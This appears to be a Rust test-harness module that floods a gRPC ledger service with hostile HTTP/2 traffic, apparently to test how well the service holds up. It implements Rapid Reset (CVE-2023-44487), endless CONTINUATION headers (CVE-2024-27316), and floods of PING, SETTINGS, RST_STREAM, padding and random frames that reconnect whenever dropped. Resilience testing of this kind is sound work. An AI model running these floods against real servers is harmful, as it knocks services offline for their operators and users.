//! Attackers who say very much.

use std::{io, time::Duration};

use tokio::time::sleep;

use super::{
    frames::{
        ACK, Asked, CONTINUATION, DATA, END_HEADERS, FRAME_MAX, GOAWAY, HEADERS,
        INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM, WINDOW_UPDATE, field, frame, message,
        settings, streams,
    },
    line::{Manner, Target},
};
use crate::sim_disk::Seeded;

pub const BATCH: &str = "/judgement.ledger.v1.AssessmentService/ApplyBatch";
pub const STREAM: &str = "/judgement.ledger.v1.AssessmentService/ApplyStream";
pub const HEALTH: &str = "/grpc.health.v1.Health/Check";

/// How soon who was thrown out comes back.
pub const BACK_AFTER: Duration = Duration::from_millis(20);

/// Says the same again and again, and comes back when it is thrown out.
async fn again_and_again(
    target: &Target,
    manner: Manner,
    before: &[u8],
    said: &[u8],
) -> io::Result<()> {
    loop {
        let line = target.greeted(manner, &[]).await?;
        if line.say(before).await.is_ok() {
            while line.say(said).await.is_ok() {}
        }
        sleep(BACK_AFTER).await;
    }
}

async fn flood(target: &Target, manner: Manner, frame: Vec<u8>) -> io::Result<()> {
    again_and_again(target, manner, b"", &frame.repeat(1_000)).await
}

/// Opens streams and gives each up at once. (CVE-2023-44487)
pub async fn rapid_reset(target: Target) -> io::Result<()> {
    loop {
        let line = target.greeted(Manner::Hears, &[]).await?;
        let mut numbers = streams();
        loop {
            let some: Vec<_> = numbers
                .by_ref()
                .take(100)
                .flat_map(|stream| {
                    let opened = Asked::call(HEALTH, None).opens(stream);
                    [opened, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
                })
                .collect();
            if line.say(&some).await.is_err() {
                break;
            }
        }
        sleep(BACK_AFTER).await;
    }
}

/// Calls that are refused, as many as there is room for on the wire.
pub async fn refused_calls(target: Target, manner: Manner) -> io::Result<()> {
    loop {
        let line = target.greeted(manner, &[]).await?;
        let mut numbers = streams();
        loop {
            let some: Vec<_> = numbers
                .by_ref()
                .take(50)
                .flat_map(|it| Asked::call(BATCH, None).asks(it))
                .collect();
            if line.say(&some).await.is_err() {
                break;
            }
        }
        sleep(BACK_AFTER).await;
    }
}

/// Headers that never end. (CVE-2024-27316)
pub async fn continuation(target: Target, bytes: usize) -> io::Result<()> {
    let begun = frame(HEADERS, 0, 1, &Asked::call(BATCH, None).block());
    let mut block = Vec::new();
    if bytes > 0 {
        field(&mut block, "x", &"y".repeat(bytes));
    }
    let more = frame(CONTINUATION, 0, 1, &block);
    again_and_again(&target, Manner::Hears, &begun, &more).await
}

/// Pieces of a message that have nothing in them.
pub async fn empty_data(target: Target) -> io::Result<()> {
    let begun = Asked::call(STREAM, Some(&target.token(STREAM))).opens(1);
    let more = frame(DATA, 0, 1, b"").repeat(1_000);
    again_and_again(&target, Manner::Hears, &begun, &more).await
}

/// Pieces that are padding alone.
pub async fn padding(target: Target) -> io::Result<()> {
    const PADDED: u8 = 0x8;
    let begun = Asked::call(STREAM, Some(&target.token(STREAM))).opens(1);
    let more = frame(DATA, PADDED, 1, &[&[255][..], &[0; 255]].concat()).repeat(100);
    again_and_again(&target, Manner::Hears, &begun, &more).await
}

pub async fn pings(target: Target, manner: Manner) -> io::Result<()> {
    flood(&target, manner, frame(PING, 0, 0, b"abcdefgh")).await
}

pub async fn changed_settings(target: Target, manner: Manner) -> io::Result<()> {
    flood(&target, manner, settings(&[(INITIAL_WINDOW_SIZE, 65_535)])).await
}

pub async fn acknowledgements(target: Target) -> io::Result<()> {
    flood(&target, Manner::Hears, frame(PING, ACK, 0, b"abcdefgh")).await
}

pub async fn priorities(target: Target, manner: Manner) -> io::Result<()> {
    flood(&target, manner, frame(PRIORITY, 0, 5, &[0, 0, 0, 3, 16])).await
}

pub async fn window_updates(target: Target, manner: Manner) -> io::Result<()> {
    flood(&target, manner, frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())).await
}

pub async fn farewells(target: Target) -> io::Result<()> {
    flood(&target, Manner::Hears, frame(GOAWAY, 0, 0, &[0; 8])).await
}

/// Of streams that are over.
pub async fn resets(target: Target) -> io::Result<()> {
    let begun = Asked::call(HEALTH, None).asks(1);
    let more = frame(RST_STREAM, 0, 1, &8_u32.to_be_bytes()).repeat(1_000);
    again_and_again(&target, Manner::Hears, &begun, &more).await
}

/// Of a kind that there is not.
pub async fn unknown(target: Target) -> io::Result<()> {
    flood(&target, Manner::Hears, frame(0x42, 0, 0, &[7; 64])).await
}

/// Headers of so many bytes.
pub async fn large_headers(target: Target, bytes: usize) -> io::Result<()> {
    let mut block = Asked::call(BATCH, None).block();
    field(&mut block, "x-large", &"y".repeat(bytes));
    let mut pieces = block.chunks(FRAME_MAX).peekable();
    let mut said = frame(HEADERS, 0, 1, pieces.next().unwrap());
    while let Some(piece) = pieces.next() {
        let last = if pieces.peek().is_none() { END_HEADERS } else { 0 };
        said.extend(frame(CONTINUATION, last, 1, piece));
    }
    again_and_again(&target, Manner::Hears, &said, &said).await
}

/// Frames of any kind with anything in them, and calls of paths that are none.
pub async fn random_frames(target: Target) -> io::Result<()> {
    let mut random = Seeded(target.seed);
    loop {
        let line = target.greeted(Manner::Hears, &[]).await?;
        for _ in 0..20 {
            if line.say(&random_frame(&mut random)).await.is_err() {
                break;
            }
        }
        sleep(BACK_AFTER).await;
    }
}

fn random_frame(random: &mut Seeded) -> Vec<u8> {
    let bytes = |random: &mut Seeded, most: u64| -> Vec<u8> {
        (0..random.below(most)).map(|_| random.below(256) as u8).collect()
    };
    let stream = (random.below(50) * 2 + 1) as u32;
    match random.below(3) {
        0 => {
            let (kind, flags) = (random.below(12) as u8, random.below(256) as u8);
            let content = bytes(random, 600);
            frame(kind, flags, stream, &content)
        }
        1 => {
            let path: String =
                bytes(random, 90).iter().map(|it| char::from(32 + it % 95)).collect();
            Asked::call(&path, None).asks(stream)
        }
        _ => {
            let content = bytes(random, 600);
            let opened = Asked::call(HEALTH, None).opens(stream);
            [opened, frame(DATA, 1, stream, &message(false, &content))].concat()
        }
    }
}
